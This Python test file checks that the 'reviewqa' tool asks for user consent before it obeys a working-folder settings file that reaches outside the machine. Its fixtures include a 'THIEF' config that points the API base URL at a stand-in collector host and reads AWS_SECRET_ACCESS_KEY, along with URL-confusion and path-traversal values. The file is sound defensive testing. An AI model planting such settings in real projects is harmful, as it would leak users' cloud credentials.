"""A settings file that merely lies in the working folder: what it may set, and how it is agreed to."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

import rag
from rag.config import ConsentError, Settings, load_settings, record_consent
from rag.schema import SettingsError

ROOT = Path(__file__).resolve().parents[1]
COMMAND = Path(sys.executable).with_name("reviewqa")
THIEF = """
[generator]
name = "openai"
[openai]
base_url = "http://collector.example/v1"
api_key_env = "AWS_SECRET_ACCESS_KEY"
"""
REACHING = {
    "openai.base_url": (
        "http://collector.example/v1",
        "http://127.0.0.1@collector.example/v1",
        "http://127.0.0.1\\@collector.example/v1",
        "http://localhost.collector.example",
        "http://[oops",
        "collector.example",
    ),
    "openai.api_key_env": ("AWS_SECRET_ACCESS_KEY", "XOPENAI_API_KEY"),
    "server.host": ("0.0.0.0", "", "::", "192.0.2.1", "localhost.example"),
    "server.public_name": ("evil.example",),
    "paths.reviews_dir": (".", "/home", "~"),
    "paths.indexes_dir": ("..", "/srv/indexes", "~/indexes", "link"),
    "paths.cache_dir": ("/tmp/planted",),
    "generator.name": ("google/gemma-2b-it", "/mnt/model", "model", "models/../../model"),
    "generator.adapter": ("adapter", "/mnt/adapter"),
    "embedding.model": ("someone/embedder", "embedder"),
    "retrieval.reranker": ("someone/reranker",),
    "reader.model": ("someone/nli", "nli"),
}
STAYING = {
    "openai.base_url": (
        "http://127.0.0.1:8000/v1",
        "http://localhost:9/v1",
        "https://[::1]/v1",
        "http://127.8.8.8/",
    ),
    "openai.api_key_env": ("OPENAI_API_KEY", "REVIEWQA_KEY"),
    "server.host": ("127.0.0.1", "localhost", "::1"),
    "server.port": (9000,),
    "paths.reviews_dir": ("reviews",),
    "paths.indexes_dir": ("indexes", "deep/indexes"),
    "generator.name": ("auto", "extractive", "openai", "models/mine", "~/.cache/model"),
    "generator.adapter": ("", "finetune/runs/mine/adapter"),
    "embedding.model": ("all-MiniLM-L6-v2", "models/embedder"),
    "retrieval.reranker": ("none", "~/.cache/reranker"),
    "reader.model": ("bundled", "none", "models/nli"),
    "answering.wording": ("auto", "off", "models/mine", "gemma-3-270m"),
    "retrieval.top_k": (3,),
}


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working folder, and a home without consents."""
    home, folder = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    folder.mkdir()
    (folder / "link").symlink_to(home)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(folder)
    for name in [name for name in os.environ if name.startswith("REVIEWQA_")]:
        monkeypatch.delenv(name)
    return folder


def write(name: str, value: object) -> Path:
    group, _, key = name.partition(".")
    file = Path("reviewqa.toml")
    file.write_text(f"[{group}]\n{key} = {json.dumps(value)}\n", encoding="utf-8")
    return file


@pytest.mark.parametrize(
    ("name", "value"), [(name, value) for name, values in REACHING.items() for value in values]
)
def test_what_reaches_out_or_opens_up_needs_consent(name: str, value: str) -> None:
    file = write(name, value)
    with pytest.raises(ConsentError) as error:
        load_settings()
    assert name in str(error.value) and "reviewqa config trust reviewqa.toml" in str(error.value)
    assert dict(load_settings(file).items())[name] is not None  # named, it is as good as agreed to
    error.value.record()
    assert load_settings() == load_settings(file)


@pytest.mark.parametrize(
    ("name", "value"), [(name, value) for name, values in STAYING.items() for value in values]
)
def test_what_stays_on_this_machine_and_in_this_folder_needs_none(name: str, value: object) -> None:
    file = write(name, value)
    assert load_settings() == load_settings(file)


def test_consent_holds_for_one_content_in_one_place(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = write("server.host", "0.0.0.0")
    record_consent(file, file.read_bytes())
    assert load_settings().server.host == "0.0.0.0"
    write("server.host", "192.0.2.1")
    with pytest.raises(ConsentError):
        load_settings()
    (here / "elsewhere").mkdir()
    monkeypatch.chdir(here / "elsewhere")
    write("server.host", "0.0.0.0")
    with pytest.raises(ConsentError):
        load_settings()


def test_what_another_source_overrides_needs_no_consent() -> None:
    write("generator.name", "someone/model")
    assert load_settings(overrides={"generator.name": "extractive"}).generator.name == "extractive"
    assert load_settings(environ={"REVIEWQA_GENERATOR__NAME": "x/y"}).generator.name == "x/y"


def test_a_process_that_is_given_every_setting_does_not_look_for_a_file() -> None:
    stated = Settings().changed({"retrieval.top_k": 3})
    Path("reviewqa.toml").write_text("no TOML at all", encoding="utf-8")
    assert load_settings(environ=stated.as_environment()) == stated


def test_a_pipe_that_is_called_like_the_settings_file_is_refused() -> None:
    os.mkfifo("reviewqa.toml")
    with pytest.raises(SettingsError, match="is not a file"):
        load_settings()


def test_the_library_refuses_too() -> None:
    Path("reviewqa.toml").write_text(THIEF, encoding="utf-8")
    with pytest.raises(SettingsError, match="reviewqa config trust"):
        rag.open("hotel")


def test_consent_that_cannot_be_kept_is_a_plain_error(tmp_path: Path) -> None:
    (tmp_path / "home" / ".config").write_text("no folder")
    file = write("server.host", "0.0.0.0")
    with pytest.raises(SettingsError, match=r"cannot be kept in .*--settings"):
        record_consent(file, file.read_bytes())


def reviewqa(*arguments: str, **keywords: int) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [COMMAND, *arguments],
        env={**os.environ, "PYTHONPATH": str(ROOT), "AWS_SECRET_ACCESS_KEY": "secret"},
        stdin=keywords.get("stdin", subprocess.DEVNULL),
        stdout=subprocess.PIPE,
        stderr=keywords.get("stderr", subprocess.PIPE),
        text=True,
        check=False,
    )


def test_without_a_terminal_a_command_stops_and_names_the_key_and_the_remedy() -> None:
    Path("reviewqa.toml").write_text(THIEF, encoding="utf-8")
    refused = reviewqa("ask", "Is it quiet?", "--index", "hotel")
    assert refused.returncode == 2 and refused.stderr.count("\n") == 1
    for word in ("openai.base_url", "AWS_SECRET_ACCESS_KEY", "reviewqa config trust reviewqa.toml"):
        assert word in refused.stderr
    trusted = reviewqa("config", "trust", "reviewqa.toml")
    assert trusted.returncode == 0 and "http://collector.example/v1" in trusted.stdout
    assert "generator.name" not in trusted.stdout  # that one needs no consent
    shown = reviewqa("config", "--json")
    assert json.loads(shown.stdout)["openai"]["base_url"]["from"] == "reviewqa.toml"


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 2), ("", 2)])
def test_on_a_terminal_the_user_is_asked_once(answer: str, code: int) -> None:
    write("server.host", "0.0.0.0")
    ours, theirs = pty.openpty()
    os.write(ours, f"{answer}\n".encode())
    asked = reviewqa("config", stdin=theirs, stderr=theirs)
    assert asked.returncode == code
    assert b"server.host" in os.read(ours, 4096)
    assert reviewqa("config").returncode == code
    os.close(ours)
    os.close(theirs)
